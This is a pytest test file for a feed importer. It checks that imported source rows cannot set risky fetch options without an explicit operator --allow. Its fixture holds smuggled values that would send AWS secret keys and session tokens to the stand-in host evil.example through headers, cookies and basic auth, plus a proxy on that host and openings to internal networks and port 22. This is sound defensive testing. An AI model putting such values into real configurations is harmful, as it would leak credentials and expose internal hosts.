"""An imported file opens no door: neither environment variables nor networks, unless the operator says so by hand."""

from __future__ import annotations

import csv
import io
import json
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest
import yaml
from cli_call import Cli

from vedette.config.sections import FetchConfig
from vedette.core.limits.import_limits import HARMLESS
from vedette.store.migrate import DATABASE
from vedette.store.queries import Queries

URL = "https://evil.example/feed"
DOORS: dict[str, Any] = {
    "headers": {"X-Take": "env:AWS_SECRET_ACCESS_KEY"},
    "allow_networks": ["10.0.0.0/8"],
    "allow_ports": [22],
    "nameservers": ["192.0.2.53"],
    "ca_file": "/tmp/mine.pem",
    "proxy": "http://evil.example:8080",
    "cookies": {"take": "env:AWS_SESSION_TOKEN"},
    "basic_auth": "me:env:AWS_ACCESS_KEY_ID",
    "post": '{"form": {"take": "env:HOME"}}',
    "respect_robots": False,
    "wire_limit": "900MiB",
    "body_limit": "900MiB",
    "types": ["application/zip"],
}
WORDS = {
    "headers": "env:AWS_SECRET_ACCESS_KEY",
    "allow_networks": "allow_networks=10.0.0.0/8",
    "allow_ports": "allow_ports=22",
    "nameservers": "nameservers=192.0.2.53",
    "ca_file": "ca_file=/tmp/mine.pem",
    "proxy": "proxy=http://evil.example:8080",
    "cookies": "env:AWS_SESSION_TOKEN",
    "basic_auth": "basic_auth=me:env:AWS_ACCESS_KEY_ID",
    "post": 'post={"form": {"take": "env:HOME"}}',
    "respect_robots": "respect_robots=false",
    "wire_limit": f"wire_limit={900 * 2**20}",
    "body_limit": f"body_limit={900 * 2**20}",
    "types": "types=application/zip",
}


def as_jsonl(row: dict[str, Any]) -> str:
    return json.dumps(row)


def as_yaml(row: dict[str, Any]) -> str:
    return yaml.safe_dump({"sources": [row]})


def as_csv(row: dict[str, Any]) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, list(row))
    writer.writeheader()
    writer.writerow(
        {key: json.dumps(value) if isinstance(value, dict) else value for key, value in row.items()}
    )
    return out.getvalue()


FORMS = {"jsonl": as_jsonl, "yaml": as_yaml, "csv": as_csv}


@pytest.fixture
def cli(tmp_path: Path) -> Cli:
    made = Cli(tmp_path / "data")
    assert made("import", "-", stdin=b"https://before.example/\n").code == 0
    return made


def settings_of(cli: Cli, url: str = URL) -> dict[str, Any]:
    with closing(Queries(cli.data / DATABASE)) as queries:
        (found,) = [view.source for view in queries.sources() if view.source.url == url]
    return dict(found.fetch)


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("key", DOORS)
def test_a_door_is_left_out_told_and_let_in_by_name(cli: Cli, key: str, form: str):
    text = FORMS[form]({"url": URL, "fetch": {key: DOORS[key], "redirects": 3}}).encode()
    told = cli("import", "-", "--format", form, "--json", stdin=text).json
    assert told["taken"] == 1, "the row itself is not lost"
    assert settings_of(cli) == {"redirects": 3}
    (said,) = told["lines"][0]["not_carried_over"]
    assert f"--allow {WORDS[key]}" in said
    cli("import", "-", "--format", form, "--allow", WORDS[key], stdin=text)
    assert set(settings_of(cli)) == {key, "redirects"}


@pytest.mark.parametrize("key", DOORS)
def test_a_word_for_one_door_opens_no_other(cli: Cli, key: str):
    others = [word for name, word in WORDS.items() if name != key]
    flags = [flag for word in others for flag in ("--allow", word)]
    cli("import", "-", "--format", "jsonl", *flags, stdin=as_jsonl({"url": URL, "fetch": DOORS}).encode())
    assert set(settings_of(cli)) == set(DOORS) - {key}


def test_every_setting_of_fetch_is_harmless_or_a_door():
    assert set(FetchConfig.model_fields) == HARMLESS | set(DOORS)


def test_headers_of_the_file_itself_and_usual_settings_are_taken_as_before(cli: Cli):
    fetch = {"headers": {"Accept": "text/html", "X": "env:HOME"}, "user_agent": "me/1", "wire_limit": "1MiB"}
    told = cli("import", "-", "--format", "jsonl", stdin=as_jsonl({"url": URL, "fetch": fetch}).encode())
    assert "fetch.headers.X" in told.out + told.err
    assert settings_of(cli) == {
        "headers": (("Accept", "text/html"),), "user_agent": "me/1", "wire_limit": 2**20,
    }  # fmt: skip


def test_what_a_source_of_ours_has_by_hand_survives_its_own_export(cli: Cli):
    row = as_jsonl({"url": URL, "fetch": {"allow_networks": ["10.0.0.0/8"]}}).encode()
    cli("import", "-", "--format", "jsonl", "--allow", WORDS["allow_networks"], stdin=row)
    exported = cli("export", "--format", "jsonl").out.encode()
    cli("import", "-", "--format", "jsonl", stdin=exported)
    assert settings_of(cli) == {"allow_networks": ("10.0.0.0/8",)}
    wider = row.replace(b"10.0.0.0/8", b"0.0.0.0/0")
    cli("import", "-", "--format", "jsonl", stdin=wider)
    assert "allow_networks" not in settings_of(cli)


def test_a_word_that_nothing_asks_for_is_told(cli: Cli):
    told = cli("import", "-", "--allow", "env:TYPO", stdin=b"https://a.example/\n")
    assert "--allow env:TYPO: nothing in the file asks for it" in told.err
